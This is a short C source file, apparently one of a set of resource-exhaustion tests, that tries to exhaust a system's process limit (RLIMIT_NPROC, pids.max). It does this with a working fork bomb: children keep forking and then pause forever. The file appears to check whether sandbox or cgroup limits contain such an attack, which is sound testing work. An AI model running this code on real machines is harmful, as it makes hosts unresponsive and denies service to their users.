/* Forks until nothing is left to fork (getrlimit(2) RLIMIT_NPROC, pids.max). */
#include "common/attack.h"

static void attempt(void) {
    int made = 0;
    signal(SIGCHLD, SIG_IGN);
    for (int refused = 0; refused < 50;) {
        pid_t child = fork();
        if (child == 0) {
            /* Each child forks on for a while. */
            for (int n = 0; n < 20; n++) {
                if (fork() < 0) {
                    usleep(1000);
                }
            }
            for (;;) {
                pause();
            }
        }
        made += child > 0;
        refused += child < 0;
    }
    printf("%d children\n", made);
    hold();
}
